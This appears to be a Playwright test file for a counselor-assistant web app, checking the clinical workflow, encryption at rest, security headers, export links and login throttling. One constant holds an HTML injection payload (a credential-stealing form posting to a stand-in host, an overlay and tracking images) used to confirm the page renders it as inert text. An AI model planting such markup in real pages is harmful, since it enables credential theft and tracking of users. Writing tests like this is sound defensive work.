"""The counselor assistant driven in a real browser (Debian chromium + Playwright): login,
create a patient, analyze with the embedded default model (streamed), edit, reload (the draft
survives), regenerate, save, find the note, chat, train a tiny patient adapter, audit log.
One app process serves the whole module; screenshots go to runs/screenshots/app_*.png
(`make screenshots` puts them in the tracked images/)."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from phyassist.paths import REPO_ROOT, screenshots_dir

CHROMIUM = "/usr/bin/chromium"
PLANTED = "Zed Quokkason"  # a name that must never appear in plaintext on disk or in logs
SAID = "I cannot sleep and I feel worthless since I lost my job at the bakery."

pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian chromium (make setup)")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def app_server(tmp_path_factory):
    root = tmp_path_factory.mktemp("app")
    data, key_file, log = root / "data", root / "keys" / "app.key", root / "app.log"
    port = _free_port()
    env = dict(os.environ, PHYASSIST_APP_USERS="alice:pw-alice,bob:pw-bob,carol:pw-carol", PYTHONPATH=str(REPO_ROOT))
    env.pop("PHYASSIST_APP_KEY", None)
    cmd = [sys.executable, "-m", "phyassist", "app", "--config", "smoke", "--data-dir", str(data),
           "--port", str(port), f"app.key_file={key_file}", "app.max_new_tokens=48", "app.item_max_new_tokens=24",
           "app.train_max_steps=2"]
    with open(log, "wb") as fh:
        proc = subprocess.Popen(cmd, cwd=REPO_ROOT, env=env, stdout=fh, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}/"
    deadline = time.time() + 300
    while time.time() < deadline:
        if proc.poll() is not None:
            pytest.fail(f"app exited with {proc.returncode}:\n{log.read_text()[-3000:]}")
        try:
            urllib.request.urlopen(url, timeout=2)
            break
        except OSError:
            time.sleep(1)
    else:
        proc.terminate()
        pytest.fail("app did not start within 300 s")
    yield {"url": url, "data": data, "key_file": key_file, "log": log}
    proc.terminate()
    try:
        proc.wait(timeout=30)
    except subprocess.TimeoutExpired:
        proc.kill()


@pytest.fixture(scope="module")
def pw():
    """One Playwright for the module (a second sync Playwright cannot start while one runs)."""
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as p:
        yield p


@pytest.fixture(scope="module")
def page(app_server, pw):
    browser = pw.chromium.launch(executable_path=CHROMIUM, args=[
        "--no-sandbox", "--disable-background-networking", "--disable-gpu", "--disable-dev-shm-usage"])
    pg = browser.new_page(viewport={"width": 1280, "height": 900})
    pg.set_default_timeout(30_000)
    pg.goto(app_server["url"])
    pg.get_by_label("username").fill("alice")
    pg.get_by_label("password").fill("pw-alice")
    pg.get_by_role("button", name="Login").click()
    pg.wait_for_selector("#create-btn")
    yield pg
    browser.close()


def box(page, elem_id: str):
    return page.locator(f"#{elem_id}").locator("textarea, input").first


def status_has(page, text: str, timeout: float = 30_000):
    from playwright.sync_api import expect

    expect(page.locator("#status")).to_contain_text(text, timeout=timeout)


def shot(page, name: str) -> None:
    screenshots_dir().mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(screenshots_dir() / f"app_{name}.png"), full_page=True)


def pick_item(page, ref: str) -> None:
    """Select a draft item and wait until its text and comment are loaded into the editor."""
    page.locator("#item-pick").get_by_label(ref, exact=True).check()
    status_has(page, f"Editing {ref}")


def test_login_refuses_wrong_password(app_server, pw):
    from playwright.sync_api import expect

    browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
    pg = browser.new_page()
    pg.goto(app_server["url"])
    pg.get_by_label("username").fill("alice")
    pg.get_by_label("password").fill("wrong")
    pg.get_by_role("button", name="Login").click()
    expect(pg.get_by_text("Incorrect Credentials")).to_be_visible(timeout=15_000)
    assert pg.locator("#create-btn").count() == 0
    browser.close()


def test_counselor_workflow(page, app_server):
    from playwright.sync_api import expect

    # Patients: create (and bad input first: a nameless patient changes nothing)
    page.click("#create-btn")
    status_has(page, "Name is empty")
    box(page, "f-name").fill(PLANTED)
    box(page, "f-age").fill("34")
    box(page, "f-gender").fill("female")
    box(page, "f-mental_state").fill("low mood, early waking")
    box(page, "f-social_functioning").fill("withdrawn from friends")
    page.click("#create-btn")
    status_has(page, "Created and opened patient #1")
    expect(page.locator("#patient-head")).to_contain_text(PLANTED)
    box(page, "search").fill("quokka")
    page.click("#search-btn")
    expect(page.locator("#results")).to_contain_text(PLANTED)
    shot(page, "patients")

    # Analysis: empty input is refused, then a streamed draft with the notice
    page.get_by_role("tab", name="Analysis").click()
    page.click("#analyze")
    status_has(page, "is empty")
    box(page, "said").fill(SAID)
    page.click("#analyze")
    status_has(page, "Context:")  # streaming has begun
    expect(page.locator("#draft")).to_contain_text("Counseling question", timeout=180_000)
    expect(page.locator("#draft")).to_contain_text("not a diagnosis")
    expect(page.locator("#notice")).to_contain_text("not a diagnosis")
    assert box(page, "stream").input_value().startswith("Symptom type:")

    # Draft: edit the symptom type, add a reason with a comment
    pick_item(page, "symptom type")
    box(page, "item-text").fill("Depressive symptoms after job loss")
    page.click("#apply-edit")
    status_has(page, "symptom type updated")
    box(page, "item-text").fill("Loss of work and daily structure")
    box(page, "item-comment").fill("mention the bakery")
    page.click("#add-reason")
    status_has(page, "Added reason")
    shot(page, "draft")

    # Reload: the open patient and the stored draft come back
    page.reload()
    page.wait_for_selector("#create-btn")
    status_has(page, "stored draft restored")
    page.get_by_role("tab", name="Analysis").click()
    expect(page.locator("#draft")).to_contain_text("Depressive symptoms after job loss")
    expect(page.locator("#draft")).to_contain_text("mention the bakery")

    # Regenerate the commented reason, then all
    last_reason = page.locator("#item-pick label", has_text="reason").last.inner_text().strip()
    pick_item(page, last_reason)
    page.click("#regen-item")
    expect(page.locator("#status")).to_contain_text(
        re.compile(f"{last_reason} regenerated|no text for {last_reason}"), timeout=120_000)
    page.click("#regen-all")
    expect(page.locator("#status")).to_contain_text(re.compile("Draft regenerated|Regenerated text"), timeout=180_000)
    shot(page, "analysis")

    # Make sure there is an item to save, then save into the notes
    box(page, "item-text").fill("Keep a sleep diary for two weeks")
    box(page, "item-comment").fill("")
    page.click("#add-advice")
    status_has(page, "Added advice")
    page.click("#save-note")
    status_has(page, "Saved as note")
    expect(page.locator("#draft")).to_contain_text("No draft")

    # Reload and find the note
    page.reload()
    page.wait_for_selector("#create-btn")
    page.get_by_role("tab", name="Notes").click()
    expect(page.locator("#notes")).to_contain_text(SAID[:40])
    expect(page.locator("#notes")).to_contain_text("Keep a sleep diary for two weeks")
    page.click("#export-md")
    status_has(page, "Exported patient #1 (md)")
    shot(page, "notes")

    # Chat, with the patient's notes as context
    page.get_by_role("tab", name="Chat").click()
    page.locator("#use-notes").get_by_role("checkbox").check()
    box(page, "chat-in").fill("Which questions should I ask about her sleep?")
    page.click("#send")
    status_has(page, "Reply complete", timeout=180_000)
    expect(page.locator("#chatbot")).to_contain_text("Which questions should I ask")
    shot(page, "chat")

    # Train: a tiny adapter on the CPU, progress visible, finished
    page.get_by_role("tab", name="Train").click()
    page.click("#train-btn")
    status_has(page, "Training started")
    expect(page.locator("#train-status")).to_contain_text("adapter ready", timeout=420_000)
    shot(page, "train")
    folder = app_server["data"] / "adapters" / "patient_1" / "v1"
    assert (folder / "PATIENT_DATA").exists() and (folder / "adapter_model.safetensors.enc").exists()
    assert not (folder / "adapter_model.safetensors").exists()
    assert not [p for p in (app_server["data"] / ".tmp").rglob("*") if "train" in str(p)], "training leftovers"

    # The patient now runs on their adapter (swapped on the loaded base model)
    page.get_by_role("tab", name="Patients").click()
    page.click("#search-btn")
    page.locator("#results").get_by_label(f"#1 {PLANTED}", exact=False).check()
    page.click("#open-btn")
    expect(page.locator("#patient-head")).to_contain_text("patient adapter #1")

    # Audit log names the counselor and the actions
    page.get_by_role("tab", name="Audit").click()
    page.click("#audit-btn")
    expect(page.locator("#audit")).to_contain_text("save_note_from_draft")
    expect(page.locator("#audit")).to_contain_text("alice")


def test_no_plaintext_on_disk_or_in_logs(app_server):
    """The planted patient name is nowhere in the data folder (db, WAL, adapters) or the log."""
    needle = PLANTED.encode()
    files = [p for p in app_server["data"].rglob("*") if p.is_file()] + [app_server["log"]]
    assert any(p.name.startswith("phyassist.sqlite") for p in files)
    leaks = [str(p) for p in files if needle in p.read_bytes() or needle.lower() in p.read_bytes().lower()]
    assert not leaks, f"plaintext patient name found in {leaks}"
    assert not list(app_server["data"].rglob("wandb*")), "patient training must not create wandb runs"
    assert oct(app_server["key_file"].stat().st_mode & 0o777) == "0o600"


def test_waiting_analysis_is_offered_and_taken(page, app_server):
    """A draft with an analysis waiting beside it (one that finished after the draft was changed
    in another session): the buttons show with it, swap the two, dismiss, and hide again."""
    from playwright.sync_api import expect

    from phyassist.app import notes as N
    from phyassist.app.storage import Store

    other = Store.open(app_server["data"], key_env="PHYASSIST_TEST_NO_SUCH_ENV", key_file=app_server["key_file"])
    pid = other.create_patient("bob", {"name": "Ada Waiting", "age": "52"})
    mine = N.new_draft("I worry all day.",
                       N.parse_analysis("Symptom type: worry\nReasons:\n1. Money\nAdvice:\n1. Plan"))
    theirs = N.new_draft("I cannot stop worrying.", N.parse_analysis(
        "Symptom type: generalised anxiety\nReasons:\n1. Debts\nAdvice:\n1. Worry time"))
    other.save_draft("bob", pid, N.add_alternative(mine, theirs))
    other.close()

    page.get_by_role("tab", name="Patients").click()
    box(page, "search").fill("Ada Waiting")
    page.click("#search-btn")
    page.locator("#results").get_by_label(f"#{pid} Ada Waiting", exact=False).check()
    page.click("#open-btn")
    status_has(page, f"Opened patient #{pid}")
    page.get_by_role("tab", name="Analysis").click()
    expect(page.locator("#draft")).to_contain_text(N.ALTERNATIVE_HEADING)
    expect(page.locator("#use-alternative")).to_be_visible()
    page.click("#use-alternative")
    status_has(page, "Now using the other analysis")
    expect(page.locator("#draft")).to_contain_text("generalised anxiety")
    page.click("#dismiss-alternative")
    status_has(page, "The other analysis was dismissed")
    expect(page.locator("#draft")).not_to_contain_text(N.ALTERNATIVE_HEADING)
    expect(page.locator("#use-alternative")).to_be_hidden()


BROWSER_PLANTED = "Yolanda Quokkabrand"  # planted by the browser-storage test only
INJECTED = ('<form action="http://10.9.9.9/steal"><input type="password" id="stolen"></form>'
            '<div id="overlay" style="position:fixed;inset:0;z-index:9999;background:red">x</div>'
            '<img id="pixel" src="http://10.9.9.9/pixel.png"> ![remote](http://10.9.9.9/md.png)')


def _login(browser_or_context, url: str, user: str, password: str):
    pg = browser_or_context.new_page()
    pg.set_default_timeout(30_000)
    pg.goto(url)
    pg.get_by_label("username").fill(user)
    pg.get_by_label("password").fill(password)
    pg.get_by_role("button", name="Login").click()
    pg.wait_for_selector("#create-btn")
    return pg


def _leaks(folder: Path, needle: str) -> list[str]:
    forms = [needle.encode("utf-8"), needle.encode("utf-16-le"), needle.lower().encode("utf-8")]
    out = []
    for p in folder.rglob("*"):
        try:
            data = p.read_bytes() if p.is_file() and not p.is_symlink() else b""
        except OSError:
            continue
        if any(f in data for f in forms):
            out.append(str(p.relative_to(folder)))
    return out


def test_security_headers_on_every_response(app_server):
    for path in ("", "config", "gradio_api/info"):
        try:
            resp = urllib.request.urlopen(app_server["url"] + path, timeout=10)
        except urllib.error.HTTPError as exc:  # refused without a login: the headers still count
            resp = exc
        assert resp.headers["Cache-Control"] == "no-store", path
        csp = resp.headers["Content-Security-Policy"]
        assert "default-src 'self'" in csp and "img-src 'self' data: blob:" in csp and "form-action 'self'" in csp


def test_browser_keeps_no_patient_text_and_renders_no_patient_html(app_server, pw, tmp_path):
    """A persistent chromium profile: create a patient whose field holds HTML, open, reload, chat,
    export, import. The page shows the HTML as text, requests nothing outside the machine, and the
    profile (localStorage, HTTP cache, everything) holds the planted name nowhere."""
    from playwright.sync_api import expect

    profile = tmp_path / "profile"
    url = app_server["url"]
    ctx = pw.chromium.launch_persistent_context(str(profile), executable_path=CHROMIUM, args=[
        "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"], accept_downloads=True)
    requests: list[str] = []
    ctx.on("request", lambda r: requests.append(r.url))
    pg = _login(ctx, url, "alice", "pw-alice")
    box(pg, "f-name").fill(BROWSER_PLANTED)
    box(pg, "f-mental_state").fill(INJECTED)
    pg.click("#create-btn")
    status_has(pg, "Created and opened patient")
    head = pg.locator("#patient-head")
    expect(head).to_contain_text(BROWSER_PLANTED)
    expect(head).to_contain_text('<form action="http://10.9.9.9/steal">')  # shown as text
    assert pg.locator("form, #stolen, #overlay, #pixel").count() == 0
    assert pg.locator("img[src*='10.9.9.9']").count() == 0
    pg.reload()  # the open patient reopens: still text
    pg.wait_for_selector("#create-btn")
    status_has(pg, "Opened patient")
    assert pg.locator("form, #stolen, #overlay, #pixel").count() == 0

    # chat through the streamed /queue/data route
    pg.get_by_role("tab", name="Chat").click()
    box(pg, "chat-in").fill(f"How should I pace the next session with {BROWSER_PLANTED}? {INJECTED}")
    pg.click("#send")
    status_has(pg, "Reply complete", timeout=180_000)
    expect(pg.locator("#chatbot")).to_contain_text(BROWSER_PLANTED)
    assert pg.locator("form, #stolen, #overlay, #pixel").count() == 0

    # export: a one-time link for this counselor; another counselor gets nothing
    pg.get_by_role("tab", name="Notes").click()
    pg.click("#export-json")
    status_has(pg, "use the download link")
    link = pg.locator("#export-link a")
    href = link.get_attribute("href")
    browser2 = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
    bob = _login(browser2, url, "bob", "pw-bob")
    assert bob.request.get(url.rstrip("/") + href).status == 404
    browser2.close()
    got = pg.request.get(url.rstrip("/") + href)  # with this browser's login cookie
    assert got.status == 200 and BROWSER_PLANTED in got.text()
    assert "attachment" in got.headers["content-disposition"] and got.headers["cache-control"] == "no-store"
    assert pg.request.get(url.rstrip("/") + href).status == 404  # once

    # import: the upload is removed once read (and a rejected one too)
    export = json.dumps({"format": "phyassist-patient-v1", "patient": {"name": BROWSER_PLANTED + " Two"},
                         "notes": [{"date": "2024-01-02", "question": f"{BROWSER_PLANTED} felt low",
                                    "symptom_type": "low mood", "reasons": ["a"], "advice": ["b"]}]})
    bad = export.replace('"2024-01-02"', '"yesterday"')
    pg.get_by_role("tab", name="Patients").click()
    pg.get_by_text("Import a patient (JSON export)").click()
    expect(pg.locator("#import-file")).to_be_visible()
    for text, expected in ((bad, "expected YYYY-MM-DD"), (export, "Imported as patient")):
        upload = tmp_path / "import.json"
        upload.write_text(text, encoding="utf-8")
        with pg.expect_file_chooser() as chooser:
            pg.locator("#import-file").get_by_text("Click to Upload", exact=False).first.click()
        chooser.value.set_files(str(upload))
        expect(pg.locator("#import-file").get_by_role("button", name="Clear")).to_be_visible()  # uploaded
        pg.click("#import-btn")
        status_has(pg, expected)
        upload.unlink()
    ctx.close()  # flushes localStorage and the HTTP cache to the profile

    outside = [u for u in requests if not u.startswith(url) and not u.startswith(("data:", "blob:"))]
    assert not outside, f"the page requested {outside[:3]}"
    assert (profile / "Default").is_dir()
    assert not _leaks(profile, BROWSER_PLANTED), "patient text in the browser profile"
    data = app_server["data"]
    assert not _leaks(data, BROWSER_PLANTED), "patient text in plaintext under the data folder"
    assert not list(Path(tempfile.gettempdir()).glob("phyassist-export-*"))
    shared_cache = Path(tempfile.gettempdir()) / "gradio"
    assert not (shared_cache.is_dir() and _leaks(shared_cache, BROWSER_PLANTED))


def test_login_throttled_and_failures_audited(app_server):
    """Wrong passwords for one user from one address: after app.login_max_failures the right
    password is refused too; every failure and refusal is in the audit log."""
    from urllib.parse import urlencode

    from phyassist.app.storage import Store

    def attempt(password: str) -> int:
        body = urlencode({"username": "carol", "password": password}).encode()
        try:
            return urllib.request.urlopen(app_server["url"] + "login", data=body, timeout=10).status
        except urllib.error.HTTPError as exc:
            return exc.code

    assert [attempt(f"wrong{i}") for i in range(6)] == [400] * 6
    assert attempt("pw-carol") == 400  # locked out for now
    store = Store.open(app_server["data"], key_env="PHYASSIST_TEST_NO_SUCH_ENV", key_file=app_server["key_file"])
    actions = [(e["user"], e["action"]) for e in store.audit_log(2000)]
    assert actions.count(("carol", "login_failed")) == 5 and actions.count(("carol", "login_throttled")) == 2
    assert store.verify_audit().ok
    store.close()
